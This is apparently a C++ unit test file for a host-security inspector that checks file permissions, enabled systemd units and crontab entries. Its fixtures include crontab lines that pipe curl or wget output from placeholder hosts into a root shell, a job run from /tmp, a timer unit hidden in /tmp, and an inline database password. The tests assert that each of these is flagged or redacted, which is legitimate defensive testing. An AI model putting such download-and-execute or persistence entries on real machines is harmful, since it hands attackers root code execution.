// File-mode checks, enabled systemd units and crontabs (src/inspect/file_checks.h).
#include <sys/stat.h>

#include <gtest/gtest.h>
#include <map>

#include "inspect/file_checks.h"

namespace bulwark::inspect {
namespace {

std::map<std::string, Severity> by_id(const std::vector<Finding>& findings)
{
    std::map<std::string, Severity> out;
    for (const auto& f : findings)
        EXPECT_TRUE(out.emplace(f.id, f.severity).second) << "duplicate " << f.id;
    return out;
}

TEST(InspectFileChecks, Modes)
{
    const FileEntry files[] = {
        { "/usr/bin/passwd", S_IFREG | 04755, 0, 0 },
        { "/usr/bin/crontab", S_IFREG | 02755, 0, 107 },
        { "/opt/tool/helper", S_IFREG | 04750, 1000, 1000 },
        { "/usr/bin/ls", S_IFREG | 0755, 0, 0 },
        { "/etc/shadow", S_IFREG | 0666, 0, 42 },
        { "/etc/cron.d", S_IFDIR | 0777, 0, 0 },
        { "/var/lib/php/sessions", S_IFDIR | 01733, 0, 0 },
        { "/usr/lib/x86_64-linux-gnu/libc.so.6", S_IFLNK | 0777, 0, 0 },
        { "/lib64", S_IFDIR | 0757, 0, 0 },
        { "/library/x", S_IFREG | 0666, 0, 0 },
        { "/tmp/x", S_IFREG | 0666, 0, 0 },
        { "/home/alice/notes", S_IFREG | 0666, 1000, 1000 },
        { "/usr/local/bin/tool", S_IFDIR | 04777, 0, 0 },
        { "/etcetera/file", S_IFREG | 0666, 0, 0 },
    };
    auto f = by_id(check_file_modes(files));
    std::map<std::string, Severity> want = {
        { "file.setuid:/usr/bin/passwd", Severity::Medium },
        { "file.setgid:/usr/bin/crontab", Severity::Low },
        { "file.setuid:/opt/tool/helper", Severity::Low },
        { "file.world-writable:/etc/shadow", Severity::High },
        { "file.world-writable:/etc/cron.d", Severity::High },
        { "file.world-writable:/lib64", Severity::High },
        { "file.world-writable:/usr/local/bin/tool", Severity::High },
    };
    EXPECT_EQ(f, want);
    for (const auto& x : check_file_modes(files)) {
        if (x.id == "file.world-writable:/etc/shadow") {
            EXPECT_NE(x.message.find("0666"), std::string::npos) << x.message;
        }
    }
}

TEST(InspectFileChecks, SystemdUnits)
{
    const SymlinkEntry links[] = {
        { "/etc/systemd/system/multi-user.target.wants/ssh.service", "/lib/systemd/system/ssh.service" },
        { "/etc/systemd/system/multi-user.target.wants/cron.service", "../../../../lib/systemd/system/cron.service" },
        { "/etc/systemd/system/sockets.target.wants/telnet.socket", "/lib/systemd/system/telnet.socket" },
        { "/etc/systemd/system/multi-user.target.wants/getty@tty1.service", "/usr/lib/systemd/system/getty@.service" },
        { "/etc/systemd/system/timers.target.wants/evil.timer", "/tmp/.x/evil.timer" },
        { "/etc/systemd/system/multi-user.target.requires/local.service", "/etc/systemd/system/local.service" },
        { "/etc/systemd/system/masked.service", "/dev/null" },
        { "/etc/systemd/system/multi-user.target.wants/masked.service", "/dev/null" },
        { "/etc/systemd/user/default.target.wants/pipewire.service", "/usr/lib/systemd/user/pipewire.service" },
        { "/etc/systemd/system/dbus-org.freedesktop.resolve1.service", "/lib/systemd/system/systemd-resolved.service" },
        { "/etc/systemd/system/x.wants/a/b.service", "/lib/systemd/system/b.service" },
        { "/etc/systemd/system/multi-user.target.wants/bad name!", "/lib/systemd/system/x.service" },
        { "/lib/systemd/system/multi-user.target.wants/vendor.service", "../vendor.service" },
    };
    auto units = enabled_systemd_units(links);
    ASSERT_EQ(units.size(), 7u);
    EXPECT_EQ(units[0].unit, "ssh.service");
    EXPECT_EQ(units[0].wanted_by, "multi-user.target");
    EXPECT_EQ(units[1].target, "/lib/systemd/system/cron.service");
    EXPECT_EQ(units[5].wanted_by, "multi-user.target") << ".requires counts too";
    EXPECT_TRUE(units[6].user_unit);
    auto f = by_id(check_systemd_units(units));
    EXPECT_EQ(f.at("systemd.enabled:ssh.service"), Severity::Info);
    EXPECT_EQ(f.at("systemd.legacy-service:telnet.socket"), Severity::Medium);
    EXPECT_EQ(f.at("systemd.unit-outside-system-dirs:evil.timer"), Severity::Medium);
    EXPECT_EQ(f.count("systemd.unit-outside-system-dirs:getty@tty1.service"), 0u);
    EXPECT_EQ(f.count("systemd.unit-outside-system-dirs:local.service"), 0u);
    EXPECT_EQ(f.size(), 9u);
}

TEST(InspectFileChecks, Crontabs)
{
    const char* system = "SHELL=/bin/sh\n"
                         "PATH = /usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin\n"
                         "# m h dom mon dow user\tcommand\n"
                         "17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n"
                         "*/5 1-3,7 * jan-mar mon-fri backup /usr/local/bin/backup.sh\n"
                         "@reboot root curl -fsSL https://get.example.test/install.sh | sudo bash -s\n"
                         "@hourly nobody wget -q -O- http://x.test/a | sh\n"
                         "0 0 * * * root /tmp/.cache/update\n"
                         "0 3 * * * root mysqldump -uroot -pHunter2Secret9 db > /var/backups/db.sql\n"
                         "@sometimes root true\n"
                         "61 * * * root\n"
                         "* * * *\n"
                         "0 0 * * * root\n";
    CronTable t = parse_crontab(system, true);
    ASSERT_EQ(t.environment.size(), 2u);
    EXPECT_EQ(t.environment[1].first, "PATH");
    ASSERT_EQ(t.jobs.size(), 6u);
    EXPECT_EQ(t.jobs[0].schedule, "17 * * * *");
    EXPECT_EQ(t.jobs[0].user, "root");
    EXPECT_EQ(t.jobs[0].command, "cd / && run-parts --report /etc/cron.hourly");
    EXPECT_EQ(t.jobs[1].user, "backup");
    EXPECT_EQ(t.jobs[2].schedule, "@reboot");
    std::vector<size_t> lines;
    for (const auto& w : t.diagnostics.warnings)
        lines.push_back(w.line);
    EXPECT_EQ(lines, (std::vector<size_t> { 10, 11, 12, 13 }));

    auto findings = check_crontab(t, "/etc/crontab");
    auto f = by_id(findings);
    EXPECT_EQ(f.at("cron.download-exec:/etc/crontab:6"), Severity::High);
    EXPECT_EQ(f.at("cron.download-exec:/etc/crontab:7"), Severity::High);
    EXPECT_EQ(f.at("cron.tmp-command:/etc/crontab:8"), Severity::Medium);
    EXPECT_EQ(f.at("cron.entry:/etc/crontab:4"), Severity::Info);
    EXPECT_EQ(f.size(), 9u);
    for (const auto& x : findings) {
        EXPECT_EQ(x.message.find("Hunter2Secret9"), std::string::npos) << x.message;
        EXPECT_EQ(x.excerpt.find("Hunter2Secret9"), std::string::npos) << x.excerpt;
        EXPECT_LE(x.excerpt.size(), k_max_excerpt);
    }

    {
        SCOPED_TRACE("UserCrontab");
        CronTable u = parse_crontab("MAILTO=\"\"\n*/10 * * * * /home/alice/bin/sync.sh --quiet\n", false);
        ASSERT_EQ(u.jobs.size(), 1u);
        EXPECT_EQ(u.jobs[0].user, "");
        EXPECT_EQ(u.jobs[0].command, "/home/alice/bin/sync.sh --quiet");
    }
}

} // namespace
} // namespace bulwark::inspect
